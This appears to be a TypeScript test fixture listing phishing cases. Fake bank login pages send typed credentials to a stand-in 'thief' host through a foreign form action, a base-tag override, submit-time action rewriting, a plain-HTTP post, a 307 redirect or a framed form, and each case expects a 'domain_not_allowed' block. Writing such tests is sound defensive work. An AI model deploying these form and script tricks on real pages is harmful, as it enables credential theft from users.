import { honestForm, loginForm, type PhishingCase, thief } from './phishing-case.ts'

const framed = (source: string) => `<!doctype html><title>Bank</title>
<h1>Bank</h1><p>Log in below to see your accounts and cards.</p>
<iframe width="600" height="400" src="${source}"></iframe>`

/** The right host shows a form that sends what is typed elsewhere. */
export const wrongForms: PhishingCase[] = [
  {
    name: 'foreign-action',
    shows: 'The form is sent to another host.',
    page: ({ at }) => loginForm(`method="post" action="${at(thief)}/collect"`),
    ends: 'domain_not_allowed',
  },
  {
    name: 'foreign-base',
    shows: 'The form says where by a path, and the page says whose.',
    page: ({ at }) => `<base href="${at(thief)}/">${loginForm('method="post" action="collect"')}`,
    ends: 'domain_not_allowed',
  },
  {
    name: 'late-action',
    shows: 'The form is turned elsewhere while it is being sent.',
    page: ({ at }) =>
      honestForm(`form.addEventListener('submit', () => { form.action = '${at(thief)}/collect' })`),
    ends: 'domain_not_allowed',
  },
  {
    name: 'late-button',
    shows: 'The button sends the form elsewhere once the password stands there.',
    page: ({ at }) =>
      honestForm(
        `password.addEventListener('input', () => { form.querySelector('button').formAction = '${at(thief)}/collect' })`,
      ),
    ends: 'domain_not_allowed',
  },
  {
    name: 'foreign-get',
    shows: 'The form goes to another host as part of an address.',
    page: ({ at }) => loginForm(`method="get" action="${at(thief)}/collect"`),
    ends: 'domain_not_allowed',
  },
  {
    name: 'own-get',
    shows: 'The form goes to the right host as part of an address, which logs keep.',
    page: () => loginForm('method="get" action="/login"'),
    ends: 'domain_not_allowed',
  },
  {
    name: 'without-tls',
    shows: 'The form is sent to the right host, for everybody on the way to read.',
    page: ({ plainAt }) => loginForm(`method="post" action="${plainAt('bank.example')}/collect"`),
    ends: 'domain_not_allowed',
  },
  {
    name: 'new-window',
    shows: 'The form is sent to another host from a window of its own.',
    page: ({ at }) => loginForm(`method="post" target="_blank" action="${at(thief)}/collect"`),
    ends: 'domain_not_allowed',
  },
  {
    name: 'repeating-redirect',
    shows: 'The right host takes the form and has it sent again to another (307).',
    page: ({ at }) =>
      loginForm(`method="post" action="/repeat?to=${encodeURIComponent(`${at(thief)}/collect`)}"`),
    ends: 'domain_not_allowed',
  },
  {
    name: 'data-frame',
    shows: 'The form stands in a frame without an address.',
    page: ({ at }) => {
      const inner = loginForm(`method="post" action="${at(thief)}/collect"`)
      return framed(`data:text/html,${encodeURIComponent(inner)}`)
    },
    ends: 'domain_not_allowed',
  },
  {
    name: 'foreign-frame',
    shows: 'The form stands in a frame of another host.',
    page: ({ at }) => framed(`${at(thief)}/`),
    ends: 'domain_not_allowed',
  },
]
